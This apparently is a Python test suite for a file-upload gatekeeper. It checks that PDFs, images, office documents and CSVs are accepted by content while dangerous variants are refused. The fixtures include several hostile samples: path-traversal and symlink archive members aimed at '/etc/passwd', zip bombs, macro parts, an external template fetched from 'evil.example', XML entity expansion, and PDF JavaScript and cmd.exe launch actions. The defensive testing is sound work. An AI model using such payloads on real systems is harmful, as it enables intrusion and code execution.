"""The door for files: what they are by their content, one generated trap after the other, and the whole ones."""

import contextlib
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from partizip.core import uploads
from partizip.core.uploads import archives, door, pictures
from tests import files

LARGEST = 20 * 1024 * 1024


@pytest.fixture(autouse=True)
def _nothing_seen():
    door._SEEN.clear()


def taken(data: bytes, name: str = "x", allowed=uploads.PUBLISHABLE) -> uploads.Taken:
    return uploads.taken(name, data, allowed, LARGEST)


def refused(data: bytes, words: str, name: str = "x", allowed=uploads.PUBLISHABLE) -> None:
    with pytest.raises(uploads.Unfit, match=words):
        taken(data, name, allowed)


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("a.pdf", files.PDF, "application/pdf"),
        ("a.pdf", files.packed(b"1 0 <</Type/Catalog>>"), "application/pdf"),
        ("a.png", files.png(), "image/png"),
        ("a.jpg", files.jpeg(), "image/jpeg"),
        ("a.docx", files.office("docx"), "wordprocessingml.document"),
        ("a.xlsx", files.workbook("1", "zwei"), "spreadsheetml.sheet"),
        ("a.odt", files.office("odt"), "opendocument.text"),
        ("a.ods", files.office("ods"), "opendocument.spreadsheet"),
        ("a.csv", "Straße;1\n".encode("latin-1"), "text/plain"),
    ],
)
def test_whole_files_come_in_as_they_are(name, data, kind):
    found = taken(data, name)
    assert found.media_type.endswith(kind)
    assert found.data == data


def test_the_name_decides_nothing():
    refused(b"MZ\x90\x00", "Only PDF", "bericht.pdf")
    refused(files.PDF, "another kind", "bericht.txt")
    refused(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "another kind", "bild.svg")
    refused(b"<!doctype html><script>x</script>", "another kind", "seite.html")
    refused(files.archive({"a.txt": "x"}), "Only PDF", "a.zip")
    refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Only PDF", "alt.doc")


def test_size_is_asked_before_anything_is_read():
    with pytest.raises(uploads.Unfit, match="too large"):
        uploads.within(LARGEST + 1, LARGEST)
    with pytest.raises(uploads.Unfit, match="too large"):
        uploads.taken("x", b"a" * 11, uploads.PUBLISHABLE, 10)
    refused(b"", "empty")


def test_a_place_for_texts_takes_nothing_else():
    assert taken(b"a;b\n", "stellen", uploads.TEXTS).media_type == "text/plain"
    refused(files.workbook("x"), "not plain text", "stellen.csv", uploads.TEXTS)


def test_what_is_only_compared_is_not_opened():
    assert taken(files.archive({"../x": "x"}), "x.exe", uploads.ANY).media_type == "application/octet-stream"


@pytest.mark.parametrize(
    "name", ["../x", "/etc/passwd", "C:/x", "a\\..\\b", "word/../../x", "word/\x1b[2J", "a/..", "\u202eexe"]
)
def test_members_whose_names_lead_elsewhere(name):
    refused(files.office_with({name: "x"}), "names that no office program")


def test_a_link_as_member():
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    refused(files.archive({"[Content_Types].xml": "<T/>", "word/document.xml": "<w/>", link: "/etc/passwd"}), "names")


def test_too_many_members():
    refused(files.office_with({f"word/{number}.xml": "" for number in range(archives.MOST_MEMBERS)}), "unpacks to far")


def test_a_member_that_unpacks_to_far_more_than_it_is():
    refused(files.office(word__bomb_dot_xml=b"\0" * (5 * 1024 * 1024)), "unpacks to far")


def test_many_members_that_are_large_together(monkeypatch):
    monkeypatch.setattr(archives, "MOST_RATIO", 10_000)
    part = b"abcdefgh" * (1024 * 1024)
    refused(files.office_with({f"word/{number}.xml": part for number in range(13)}), "unpacks to far")


def test_what_is_announced_as_too_much_is_not_even_unpacked(monkeypatch):
    monkeypatch.setattr(archives, "MOST_BYTES", 1000)
    monkeypatch.setattr(archives, "_check_content", lambda *_: pytest.fail("unpacked"))
    refused(files.office(word__a_dot_bin=b"ab" * 600), "unpacks to far")


def test_sizes_that_were_announced_too_small():
    """The directory says ten bytes, the member holds a megabyte: the reader finds that the sum is another one."""
    data = files.office(word__lie_dot_bin=b"x" * 1_000_000)
    lie = data.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 10))
    assert lie != data
    refused(lie, "damaged")


def test_a_budget_holds_for_a_file_with_all_that_lies_in_it(monkeypatch):
    monkeypatch.setattr(archives, "MOST_BYTES", 3000)
    inner = files.office("xlsx", xl__a_dot_bin=b"ab" * 600)
    assert taken(files.office_with({"word/embeddings/a.xlsx": inner}), "a.docx")
    door._SEEN.clear()
    refused(files.office_with({"word/embeddings/a.xlsx": inner, "word/embeddings/b.xlsx": inner}), "unpacks to far")


def test_archives_inside():
    table = files.workbook("1")
    assert taken(files.office_with({"word/embeddings/tabelle.xlsx": table}), "a.docx")
    for name, inner in (
        ("word/media/a.bin", table), ("word/embeddings/a.zip", files.archive({"a": "x"})), ("a.gz", b"\x1f\x8b\x08"),
        ("word/embeddings/a.bin", b"\xd0\xcf\x11\xe0"),
        ("word/embeddings/a.docx", files.office_with({"word/embeddings/b.xlsx": table})),
    ):  # fmt: skip
        refused(files.office_with({name: inner}), "another archive")


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "Basic/Standard/x.xml"])
def test_programs_in_office_files(name):
    refused(files.office_with({name: "x"}), "macros")


def test_a_kind_with_programs_under_another_name():
    types = "<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"
    refused(files.archive({"[Content_Types].xml": types, "word/document.xml": "<w/>"}), "macros")


def test_parts_from_elsewhere_but_not_links():
    head = "<Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    template = f"{head}attachedTemplate' Target='https://evil.example/x.dotm' TargetMode='External'/>"
    refused(files.office_with({"word/_rels/settings.xml.rels": template}), "fetches parts")
    refused(files.office_with({"word/_rels/a.rels": template.encode("utf-16")}), "fetches parts")
    link = f"{head}hyperlink' Target='https://berlin.de/' TargetMode='External'/>"
    assert taken(files.office_with({"word/_rels/document.xml.rels": link}), "a.docx")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_that_grow(encoding):
    laughs = "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>]><l>&a;</l>".encode(encoding)
    refused(files.office_with({"word/styles.xml": laughs}), "signs that no office program")


def test_locked_cut_and_oddly_packed_archives():
    whole = files.office()
    refused(whole[: len(whole) // 2], "damaged")
    refused(b"PK\x03\x04evil", "damaged")
    locked = bytearray(whole)
    locked[whole.index(b"PK\x01\x02") + 8] |= 1
    refused(bytes(locked), "password")
    refused(files.archive({"[Content_Types].xml": "<T/>", "word/document.xml": "x"}, zipfile.ZIP_BZIP2), "damaged")


@pytest.mark.parametrize(
    ("written", "words"),
    [
        (b"<</S/JavaScript/JS(app.alert\\(1\\))>>", "programs"), (b"<</S /J#61vaScript>>", "programs"),
        (b"<</S/#4A#61#76#61#53#63#72#69#70#74>>", "programs"), (b"<</S/Launch/F(cmd.exe)>>", "programs"),
        (b"<</XFA 3 0 R>>", "programs"), (b"<</S/SubmitForm>>", "programs"),
        (b"<</Type/EmbeddedFile>>", "other files"), (b"<</Encrypt 5 0 R>>", "protected"), (b"<</#45ncrypt 5 0 R>>", "protected"),
    ],
)  # fmt: skip
def test_pdfs_that_do_something(written, words):
    refused(files.PDF + written, words, "a.pdf")
    refused(files.packed(b"1 0 " + written), words, "a.pdf")


@pytest.mark.parametrize(
    "head",
    [
        b"/Type/ObjStm/Filter/LZWDecode", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
        b"/Type/Obj#53tm/#46ilter/FlateDecode", b"/Type/ObjStm/Filter 7 0 R",
        b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>",
        b"/Type/ObjStm/Filter/FlateDecode" + b" " * 70_000, b" " * 70_000 + b"/Type/ObjStm/Filter/FlateDecode",
    ],
)  # fmt: skip
def test_lists_of_objects_that_cannot_be_looked_through(head):
    refused(files.packed(b"1 0 <</S/JavaScript>>", head), "cannot be looked through", "a.pdf")


def test_a_list_of_objects_that_never_ends(monkeypatch):
    monkeypatch.setattr("partizip.core.uploads.pdfs.MOST_BYTES", 1000)
    refused(files.packed(b" " * 5000), "cannot be looked through", "a.pdf")
    refused(files.packed(b" " * 600) + files.packed(b" " * 600), "cannot be looked through", "a.pdf")
    refused(files.packed(b"")[:-30].replace(b"x\x9c", b"xx"), "cannot be looked through", "a.pdf")


def test_a_file_of_countless_lists_is_gone_through_once(monkeypatch):
    """Each list lies behind the one before, so that no byte is unpacked or looked for twice."""
    one = files.packed(b"1 0 ")
    assert taken(one + one[len(files.PDF) :], "a.pdf")
    head = b"2 0 obj\n<</Type /ObjStm /Filter /FlateDecode>>\nstream\n"
    refused(files.PDF + head * 3 + one[one.index(b"stream\n") + 7 :], "cannot be looked through", "a.pdf")
    refused(files.PDF + head * 3, "cannot be looked through", "a.pdf")
    monkeypatch.setattr("partizip.core.uploads.pdfs.MOST_LISTS", 2)
    refused(files.PDF + one[len(files.PDF) :] * 3, "cannot be looked through", "a.pdf")


def test_words_about_programs_are_no_programs():
    assert taken(files.PDF + b"(JavaScript ist eine Sprache) /JavaScripting /Encryption", "a.pdf")


def test_pictures_lose_place_and_time_and_keep_which_way_up():
    notes = (files.exif(6), files.segment(0xED, b"Photoshop IPTC Anna"), files.segment(0xFE, b"Kommentar"))
    kept = taken(files.jpeg(8, 8, *notes, tail=b"PK\x03\x04angehaengt"), "a.jpg").data
    for gone in (b"GPS", b"Kamera", b"Anna", b"Kommentar", b"angehaengt"):
        assert gone not in kept
    assert pictures._orientation(kept[kept.index(b"Exif") + 6 :]) == 6
    assert taken(kept, "a.jpg").data == kept, "what was let in is let in again as it is"
    assert taken(files.jpeg(8, 8, files.exif(3, ">")), "a.jpg").data.count(b"Exif") == 1
    assert b"Exif" not in taken(files.jpeg(8, 8, files.exif(1)), "a.jpg").data
    text, place = files.chunk(b"tEXt", b"Author\x00Anna"), files.chunk(b"eXIf", b"II*\x00GPS")
    assert taken(files.png(1, 1, text, place, tail=b"<script>"), "a.png").data == files.png()


def test_a_second_picture_behind_the_first_is_left_out():
    """Phones put a preview, or a second exposure with its own notes, behind the end of the image."""
    assert taken(files.jpeg(tail=files.jpeg(8, 8, files.exif())), "a.jpg").data == files.jpeg()


def test_notes_between_the_scans_of_a_picture_are_left_out():
    scan = files.segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\xff\xd0\x12\xff\x00\x34"
    table = files.segment(0xC4, b"\x00" * 17)
    start = files.jpeg()[:-2]
    made = start + files.exif(1) + files.segment(0xFE, b"Anna") + table + scan + b"\xff\xd9"
    assert taken(made, "a.jpg").data == start + table + scan + b"\xff\xd9"


@pytest.mark.parametrize("name", [b"caBX", b"zzZz", b"tIME", b"prVt"])
def test_only_what_a_picture_is_drawn_from_is_kept(name):
    assert taken(files.png(1, 1, files.chunk(name, b"Kamera 4711, 52.4811 13.4350")), "a.png").data == files.png()
    colours = files.png(1, 1, files.chunk(b"gAMA", b"\x00\x00\xb1\x8f"))
    assert taken(colours, "a.png").data == colours


def test_a_picture_of_countless_parts_is_refused_at_once(monkeypatch):
    monkeypatch.setattr(pictures, "_MOST_PARTS", 50)
    refused(files.jpeg(8, 8, *[files.segment(0xC4, b"")] * 60), "picture is damaged")
    refused(files.png(1, 1, *[files.chunk(b"gAMA", b"")] * 60), "picture is damaged")


def test_a_colour_profile_stays():
    profile = files.segment(0xE2, b"ICC_PROFILE\x00\x01\x01abc")
    assert profile in taken(files.jpeg(8, 8, profile), "a.jpg").data


@pytest.mark.parametrize("data", [files.png(20_000, 20_000), files.jpeg(60_000, 60_000)])
def test_pictures_of_too_many_points(data):
    refused(data, "100 million")


@pytest.mark.parametrize("whole", [files.png(), files.jpeg(8, 8, files.exif())])
def test_pictures_that_were_cut(whole):
    for end in range(9, len(whole) - 3):
        refused(whole[:end], "picture is damaged")
    refused(files.png(0, 1), "damaged")


@given(st.sampled_from([files.PDF, files.png(), files.jpeg(), files.office(), files.packed(b"1 0")]), st.data())
def test_any_damage_is_a_refusal_and_never_an_error(whole, data):
    place = data.draw(st.integers(4, len(whole) - 1))
    harmed = whole[:place] + data.draw(st.binary(max_size=8)) + whole[place + data.draw(st.integers(0, 8)) :]
    with contextlib.suppress(uploads.Unfit):
        assert taken(harmed).media_type in uploads.PUBLISHABLE


@given(st.text(max_size=300))
def test_a_name_is_never_a_way(name):
    clean = door.clean_name(name)
    assert clean
    assert not set(clean) & set("/\\\x00\r\n")


def test_what_was_looked_through_is_not_looked_through_again(monkeypatch):
    data = files.office()
    taken(data, "a.docx")
    monkeypatch.setattr(archives, "looked_through", lambda _data: pytest.fail("opened twice"))
    assert taken(data, "a.docx").data == data
